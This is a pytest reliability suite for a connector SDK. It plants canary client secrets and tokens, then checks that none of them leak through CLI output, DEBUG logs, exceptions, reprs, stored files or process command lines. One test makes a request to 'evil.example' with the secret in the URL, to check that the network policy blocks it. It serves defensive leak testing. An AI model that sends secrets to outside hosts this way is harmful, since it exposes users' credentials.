"""Secret canaries across every surface: CLI commands (as real processes, with DEBUG logging),
the Python API at DEBUG, the store's files and the command lines of running processes.

Every client secret and every token the fake endpoints issue is a canary. A surface leaks
when a canary occurs in it: stdout, stderr (which carries the DEBUG log of the CLI
processes), log records, exception messages and tracebacks, reprs, run results, the store's
files read as bytes, ``/proc/<pid>/cmdline``. Each check is counted (``canary.checks``) and
each leak too (``canary.leaks``, target 0) for scripts/reliability.
"""

from __future__ import annotations

import json
import logging
import os
import subprocess
import sys
import time
import traceback
from pathlib import Path
from typing import Any

import pytest

from connector_sdk import Runtime
from connector_sdk._errors import ConnectorSDKError, NetworkPolicyError, TokenError

pytestmark = [pytest.mark.reliability, pytest.mark.timeout(120)]

TWITCH_ID = "abcdefghij0123456789abcdefghij"
# Runs the CLI with every logger at DEBUG on stderr: what a user debugging a problem sees.
DEBUG_CLI = ("import logging, sys; logging.basicConfig(level=logging.DEBUG, stream=sys.stderr);"
             " from connector_sdk.cli import main; sys.exit(main(sys.argv[1:]))")
CLI = str(Path(sys.executable).with_name("connector-sdk"))


class LeakScan:
    """Checks surfaces for canaries; names the leaking surface, never the canary."""

    def __init__(self, figures: Any, canaries: list[str]) -> None:
        self.figures = figures
        self.canaries = canaries
        self.checks = 0
        self.leaks: list[str] = []

    def check(self, surface: str, content: str | bytes) -> None:
        self.checks += 1
        data = content if isinstance(content, bytes) else content.encode("utf-8", "replace")
        if any(c.encode() in data for c in self.canaries):
            self.leaks.append(surface)

    def exception(self, surface: str, exc: BaseException) -> None:
        self.check(f"{surface} (message)", str(exc))
        self.check(f"{surface} (repr)", repr(exc))
        self.check(f"{surface} (traceback)", "".join(traceback.format_exception(exc)))
        self.check(f"{surface} (attributes)", repr(vars(exc)))

    def finish(self) -> None:
        self.figures.add("canary.checks", self.checks)
        self.figures.add("canary.leaks", len(self.leaks))
        assert self.leaks == [], f"canaries leaked into: {self.leaks}"


@pytest.fixture
def scan(figures, make_canary):  # type: ignore[no-untyped-def]
    canaries: list[str] = []
    leak_scan = LeakScan(figures, canaries)

    def new(prefix: str) -> str:
        value = make_canary(prefix)
        canaries.append(value)
        return value

    leak_scan.new = new  # type: ignore[attr-defined]
    yield leak_scan
    leak_scan.finish()


def cli_env(tmp_path: Path, server: Any, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CONNECTOR_SDK_")}
    env.update(CONNECTOR_SDK_HOME=str(tmp_path / "home"),
               CONNECTOR_SDK_SANDBOX_URL=server.base, CONNECTOR_SDK_DEBUG="1", **extra)
    return env


def run_cli(scan: LeakScan, env: dict[str, str], *args: str, expect: int = 0,
            stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    done = subprocess.run([sys.executable, "-c", DEBUG_CLI, *args], env=env, text=True,
                          capture_output=True, timeout=60, input=stdin)
    label = " ".join(args[:3])
    scan.check(f"`{label}` stdout", done.stdout)
    scan.check(f"`{label}` stderr", done.stderr)
    assert done.returncode == expect, f"`{label}` exited {done.returncode}"
    return done


def scan_store(scan: LeakScan, home: Path) -> None:
    files = [p for p in home.rglob("*") if p.is_file()]
    assert files, "the store wrote no file"
    for path in files:
        scan.check(f"store file {path.name}", path.read_bytes())


def serve_twitch(server: Any, rk: Any, token: str) -> None:
    server.default("/oauth2/token", rk.token(token))
    server.default("/oauth2/revoke", rk.reply(200, body=""))
    server.default("/helix/users", rk.reply(200, json_body={"data": [{"id": "1"}]}))


# -- the CLI ---------------------------------------------------------------------------------


def test_auth_commands_never_show_a_secret_or_token(fault_server, rk, tmp_path, scan):
    secret, shop_secret, tok = scan.new("secret"), scan.new("shop-secret"), scan.new("token")
    serve_twitch(fault_server, rk, tok)
    secret_file = tmp_path / "shop-secret.txt"
    secret_file.write_text(shop_secret + "\n")
    env = cli_env(tmp_path, fault_server, TW_SECRET=secret)
    run_cli(scan, env, "auth", "create", "twitch", "--name", "app", "--param",
            f"client_id={TWITCH_ID}", "--param", "client_secret=@env:TW_SECRET")
    run_cli(scan, env, "auth", "create", "shopify", "--name", "shop", "--param",
            "shopify_url=my-store.myshopify.com", "--param", "client_id=shop-id", "--param",
            f"client_secret=@file:{secret_file}", "--format", "json")
    for fmt in ("text", "json"):
        run_cli(scan, env, "auth", "list", "--format", fmt)
        run_cli(scan, env, "auth", "show", "app", "--format", fmt)
        run_cli(scan, env, "auth", "show", "shop", "--format", fmt)
    tested = run_cli(scan, env, "auth", "test", "app", "--format", "json")
    assert json.loads(tested.stdout)["ok"] is True
    assert "token request service=twitch" in tested.stderr  # the DEBUG log was on
    revoked = fault_server.requests("/oauth2/revoke")
    assert revoked, "auth test revokes its token (Twitch)"
    # the secret went only into the token request's body
    for seen in fault_server.requests():
        if seen.path != "/oauth2/token":
            assert secret.encode() not in seen.body
        assert secret not in seen.path and tok not in seen.path
    scan_store(scan, tmp_path / "home")
    run_cli(scan, env, "auth", "delete", "app")
    run_cli(scan, env, "auth", "delete", "shop", "--format", "json")
    scan_store(scan, tmp_path / "home")


def test_a_secret_on_the_command_line_is_refused_without_echoing_it(fault_server, tmp_path,
                                                                    scan):
    secret = scan.new("secret")
    env = cli_env(tmp_path, fault_server)
    done = subprocess.run([sys.executable, "-c", DEBUG_CLI, "auth", "create", "twitch",
                           "--name", "app", "--param", f"client_id={TWITCH_ID}", "--param",
                           f"client_secret={secret}"],
                          env=env, text=True, capture_output=True, timeout=60)
    assert done.returncode == 2
    scan.check("refused secret stdout", done.stdout)
    scan.check("refused secret stderr", done.stderr)


def test_failing_auth_test_echoing_secret_and_token_shows_neither(fault_server, rk, tmp_path,
                                                                  scan):
    secret, tok = scan.new("secret"), scan.new("token")
    env = cli_env(tmp_path, fault_server, SH_SECRET=secret)
    run_cli(scan, env, "auth", "create", "shopify", "--name", "shop", "--param",
            "shopify_url=my-store.myshopify.com", "--param", "client_id=shop-id", "--param",
            "client_secret=@env:SH_SECRET")
    fault_server.default("/admin/oauth/access_token", rk.reply(400, json_body={
        "error": "invalid_client", "error_description": f"secret {secret} is wrong",
        "access_token": tok}))
    done = run_cli(scan, env, "auth", "test", "shop", expect=1)
    assert "invalid_client" in done.stderr
    # an HTML error page quoting the secret, then a timeout: same
    fault_server.default("/admin/oauth/access_token", rk.reply(
        502, body=f"<html><title>proxy error for {secret}</title></html>",
        content_type="text/html"))
    run_cli(scan, env, "auth", "test", "shop", expect=1)


def test_command_lines_of_running_processes_hold_no_secret(fault_server, rk, tmp_path, scan):
    secret, tok = scan.new("secret"), scan.new("token")
    env = cli_env(tmp_path, fault_server, TW_SECRET=secret)
    run_cli(scan, env, "auth", "create", "twitch", "--name", "app", "--param",
            f"client_id={TWITCH_ID}", "--param", "client_secret=@env:TW_SECRET")

    def slow_token(ex: Any) -> None:
        ex.sleep(1.5)
        rk.token(tok)(ex)

    fault_server.default("/oauth2/token", slow_token)
    fault_server.default("/oauth2/revoke", rk.reply(200, body=""))
    processes = {
        "auth test": [CLI, "auth", "test", "app"],
        "sandbox": [CLI, "sandbox", "twitch", "shopify", "--port", "0"],
    }
    for label, argv in processes.items():
        proc = subprocess.Popen(argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                text=True)
        try:
            seen = 0
            deadline = time.monotonic() + 1.0
            while time.monotonic() < deadline and proc.poll() is None:
                cmdline = Path(f"/proc/{proc.pid}/cmdline").read_bytes()
                scan.check(f"/proc/pid/cmdline of `{label}`", cmdline)
                seen += 1
                time.sleep(0.1)
            assert seen >= 3, f"`{label}` ended before its command line was read"
        finally:
            proc.terminate()
            out, err = proc.communicate(timeout=10)
        scan.check(f"`{label}` stdout", out)
        scan.check(f"`{label}` stderr", err)


def test_validate_services_and_plugins_never_quote_a_secret(fault_server, tmp_path, scan):
    secret = scan.new("secret")
    manifest = tmp_path / "leaky.yaml"
    fixture = Path(__file__).parents[1] / "manifest/fixtures/valid/acme.yaml"
    text = fixture.read_text().replace(
        "      secret: true\n",
        f"      secret: true\n      default: {secret}\n      examples: [{secret}]\n", 1)
    text = text.replace("base_url: https://{{ tenant }}.acme.example/api/{{ region }}",
                        "base_url: https://{{ tenant }}.acme.example/api/{{ client_secret }}")
    manifest.write_text(text)
    env = cli_env(tmp_path, fault_server)
    for fmt in ("text", "json", "github"):
        done = run_cli(scan, env, "validate", str(manifest), "--format", fmt, expect=1)
        assert "SECRET-DEFAULT" in done.stdout + done.stderr
    for command in ("services", "plugins"):
        for fmt in ("text", "json"):
            run_cli(scan, env, command, "--format", fmt)


# -- the Python API --------------------------------------------------------------------------


def test_python_api_at_debug_shows_no_secret_or_token(fault_server, rk, tmp_path, scan,
                                                      caplog, capsys):
    caplog.set_level(logging.DEBUG)
    secret, tok, tok2 = scan.new("secret"), scan.new("token"), scan.new("token")
    serve_twitch(fault_server, rk, tok)
    home = tmp_path / "home"
    with Runtime(environ={"CONNECTOR_SDK_HOME": str(home)},
                 sandbox_url=fault_server.base) as runtime:
        created = runtime.create_authentication(
            "twitch", "app", {"client_id": TWITCH_ID, "client_secret": secret})
        loaded = runtime.get_authentication("app")
        records = runtime.list_authentications()
        token = runtime.get_token(loaded)
        with runtime.client(loaded) as client:
            response = client.get("/users", params={"login": "twitchdev"})
            assert response.status_code == 200
            request_repr = repr(response.request) + repr(response.request.headers)
        for label, value in {"Authentication": created, "loaded": loaded, "records": records,
                             "Token": token, "TokenStats": runtime.tokens.stats,
                             "request": request_repr, "runtime": runtime,
                             "parameters": loaded.parameters}.items():
            scan.check(f"repr({label})", repr(value))
            scan.check(f"str({label})", str(value))
        # failure paths: the endpoints echo what they were sent
        fault_server.default("/oauth2/token", lambda ex: ex.reply(
            400, json_body={"status": 400, "message": f"invalid client secret {secret}"}))
        runtime.tokens.forget(loaded)
        with pytest.raises(TokenError) as caught:
            runtime.get_token(loaded)
        scan.exception("token endpoint error", caught.value)
        fault_server.default("/oauth2/token", rk.token(tok2))
        runtime.tokens.forget(loaded)
        fault_server.default("/helix/users", lambda ex: ex.reply(
            401, json_body={"message": f"bad token {ex.seen.headers.get('authorization')}"}))
        with runtime.client(loaded) as client, pytest.raises(ConnectorSDKError) as refused:
            client.get("/users")
        scan.exception("401 twice", refused.value)
        forged = runtime.authentication("shopify", {
            "shopify_url": "my-store.myshopify.com", "client_id": "x", "client_secret": secret})
        with pytest.raises(NetworkPolicyError) as policy:
            runtime.client(forged).get(f"https://evil.example/{secret}")
        scan.exception("network policy", policy.value)
        result = runtime.delete_authentication("app")
        scan.check("delete result", repr(result))
    scan.check("log records", "\n".join(
        f"{r.name} {r.getMessage()} {r.args!r}" for r in caplog.records))
    out, err = capsys.readouterr()
    scan.check("stdout", out)
    scan.check("stderr", err)
    scan_store(scan, home)


def test_the_leak_scan_finds_a_planted_canary(figures, make_canary):
    canary = make_canary("planted")
    probe = LeakScan(figures, [canary])
    probe.check("planted", b"x" + canary.encode() + b"y")
    probe.check("clean", "nothing here")
    assert probe.leaks == ["planted"]
